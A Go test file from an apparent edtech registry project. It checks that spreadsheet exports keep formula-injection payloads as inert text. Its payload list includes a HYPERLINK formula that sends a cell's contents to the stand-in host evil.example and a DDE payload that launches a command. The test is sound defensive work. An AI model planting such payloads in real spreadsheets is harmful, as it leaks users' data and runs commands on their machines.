package xlsx

import (
	"bytes"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/edtech-registry/registry/internal/xlsx/xlsxtest"
)

// injections are texts a spreadsheet would run as formulas if they were
// written as formulas or lost their text format (OWASP "CSV injection").
var injections = []string{
	`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1",
	`=cmd|' /C calc'!A0`,
}

// TestBookTextStaysText writes every injection payload through the book's
// cells and checks, reading back with excelize and with LibreOffice, that
// each is a string with the text format and no formula, kept as written.
func TestBookTextStaysText(t *testing.T) {
	t.Parallel()
	b, err := newBook("Test book", "injection", Info{Generated: time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC), Version: "test"})
	if err != nil {
		t.Fatal(err)
	}
	s, err := b.addSheet("Data", []float64{40, 12}, true)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.header("Text", "Score"); err != nil {
		t.Fatal(err)
	}
	score := 72.25
	for _, text := range injections {
		if err := s.add(text, Score(&score)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.table("Data"); err != nil {
		t.Fatal(err)
	}
	if err := s.flush(); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := b.write(&buf); err != nil {
		t.Fatal(err)
	}

	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	props, err := f.GetDocProps()
	if err != nil || props.Title != "Test book" || props.Creator != "Educator AI Edtech registry test" || props.Created != "2026-12-01T09:00:00Z" {
		t.Errorf("document properties = %+v, %v", props, err)
	}
	for i, text := range injections {
		cell := ref(1, i+2)
		if formula, _ := f.GetCellFormula("Data", cell); formula != "" {
			t.Errorf("%s holds the formula %q", cell, formula)
		}
		typ, _ := f.GetCellType("Data", cell)
		if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("%s has type %v, want a string", cell, typ)
		}
		style, _ := f.GetCellStyle("Data", cell)
		st, _ := f.GetStyle(style)
		if st == nil || st.CustomNumFmt == nil || *st.CustomNumFmt != "@" {
			t.Errorf("%s lacks the text number format", cell)
		}
		if got, _ := f.GetCellValue("Data", cell, excelize.Options{RawCellValue: true}); got != text {
			t.Errorf("%s = %q, want %q as written", cell, got, text)
		}
		if got, _ := f.GetCellValue("Data", ref(2, i+2), excelize.Options{RawCellValue: true}); got != "72.25" {
			t.Errorf("%s = %q, want the full value 72.25", ref(2, i+2), got)
		}
		if got, _ := f.GetCellValue("Data", ref(2, i+2)); got != "72.3" && got != "72.2" {
			t.Errorf("%s shows %q, want one decimal", ref(2, i+2), got)
		}
	}
	tables, err := f.GetTables("Data")
	if err != nil || len(tables) != 1 || tables[0].Range != "A1:B9" {
		t.Errorf("tables = %+v, %v", tables, err)
	}

	sheets := xlsxtest.Convert(t, buf.Bytes(), "Data")
	rows := sheets["Data"]
	if len(rows) != len(injections)+1 || rows[0][0] != "Text" {
		t.Fatalf("LibreOffice read %d rows: %q", len(rows), rows)
	}
	for i, text := range injections {
		if rows[i+1][0] != text {
			t.Errorf("LibreOffice reads row %d as %q, want %q", i+2, rows[i+1][0], text)
		}
	}
}
